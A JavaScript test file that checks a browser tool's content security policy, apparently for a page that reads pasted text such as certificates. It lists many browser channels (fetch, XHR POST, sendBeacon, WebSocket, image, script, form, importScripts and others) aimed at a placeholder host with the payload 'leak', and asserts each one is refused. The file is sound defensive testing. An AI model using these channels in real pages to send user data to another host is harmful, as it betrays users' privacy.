// What is pasted cannot leave by any of the ways a page has of talking to another host, but two: a page may
// always navigate away, and the policy does not govern WebRTC. Those are for the page's own code not to use.
import assert from "node:assert/strict";
import { test } from "node:test";
import { builds, open } from "./browser.mjs";

const ELSEWHERE = "https://elsewhere.invalid/?leak";

/** Each tries to reach another host and says whether it was stopped. They run in the page. */
const PAGE_ATTEMPTS = {
  fetch: (url) => fetch(url).then(() => "let through", () => "refused"),
  XMLHttpRequest: (url) =>
    new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.onload = () => resolve("let through");
      request.onerror = () => resolve("refused");
      request.open("POST", url);
      request.send("leak");
    }),
  sendBeacon: (url) => (navigator.sendBeacon(url, "leak"), "refused"),
  WebSocket: (url) =>
    new Promise((resolve) => {
      try {
        const socket = new WebSocket(url.replace("https", "wss"));
        socket.onopen = () => resolve("let through");
        socket.onerror = () => resolve("refused");
      } catch {
        resolve("refused");
      }
    }),
  EventSource: (url) =>
    new Promise((resolve) => {
      const source = new EventSource(url);
      source.onopen = () => resolve("let through");
      source.onerror = () => resolve("refused");
    }),
  image: (url) =>
    new Promise((resolve) => {
      const image = new Image();
      image.onload = () => resolve("let through");
      image.onerror = () => resolve("refused");
      image.src = url;
    }),
  stylesheet: (url) =>
    new Promise((resolve) => {
      const link = Object.assign(document.createElement("link"), { rel: "stylesheet", href: url });
      link.onload = () => resolve("let through");
      link.onerror = () => resolve("refused");
      document.head.append(link);
    }),
  script: (url) => {
    try {
      document.head.append(Object.assign(document.createElement("script"), { src: url }));
      return "let through";
    } catch {
      return "refused";
    }
  },
  frame: (url) => (document.body.append(Object.assign(document.createElement("iframe"), { src: url })), "refused"),
  form: (url) => {
    const form = Object.assign(document.createElement("form"), { action: url, method: "post" });
    document.body.append(form);
    form.submit();
    return "refused";
  },
};

const WORKER_ATTEMPTS = {
  fetch: PAGE_ATTEMPTS.fetch,
  XMLHttpRequest: (url) => {
    const request = new XMLHttpRequest();
    request.open("POST", url, false);
    try {
      request.send("leak");
      return "let through";
    } catch {
      return "refused";
    }
  },
  WebSocket: PAGE_ATTEMPTS.WebSocket,
  importScripts: (url) => {
    try {
      importScripts(url);
      return "let through";
    } catch {
      return "refused";
    }
  },
  import: (url) => import(url).then(() => "let through", () => "refused"),
};

for (const build of builds) {
  test(`${build.name}: nothing is requested after the page has loaded`, async (t) => {
    const { page, requests } = await open(t, build);
    await page.getByRole("textbox").fill("warm up");
    await page.getByText("The worker read 7 characters.").waitFor();
    requests.length = 0;
    await page.getByRole("textbox").fill("-----BEGIN CERTIFICATE-----");
    await page.getByText("The worker read 27 characters.").waitFor();
    assert.deepEqual(requests, []);
  });

  test(`${build.name}: works with the network gone`, async (t) => {
    const { context, page } = await open(t, build);
    await context.setOffline(true);
    await page.getByRole("textbox").fill("offline");
    await page.getByText("The worker read 7 characters.").waitFor();
  });

  for (const [side, attempts] of [["page", PAGE_ATTEMPTS], ["worker", WORKER_ATTEMPTS]]) {
    for (const [name, attempt] of Object.entries(attempts)) {
      test(`${build.name}: ${name} to another host is refused in the ${side}`, async (t) => {
        const opened = await open(t, build);
        const refusals = await violations(opened.page);
        const before = opened.requests.length;
        assert.equal(await opened[side].evaluate(attempt, ELSEWHERE), "refused");
        const left = opened.requests.slice(before).filter((url) => url.includes("elsewhere"));
        if (side === "page") await refusals.first();
        assert.deepEqual(await reached(opened, left), []);
        assert.equal(opened.page.url(), build.url, "the page stayed");
      });
    }
  }
}

/** The violations of its policy that the page reports from now on. */
async function violations(page) {
  await page.evaluate(() => {
    globalThis.violation = new Promise((resolve) =>
      addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective), { once: true }),
    );
  });
  return { first: () => page.evaluate(() => globalThis.violation) };
}

/** Chromium announces requests that its policy then stops: of `urls`, those that were not stopped. */
async function reached({ failures }, urls) {
  return urls.filter((url) => failures.get(url) !== "csp");
}
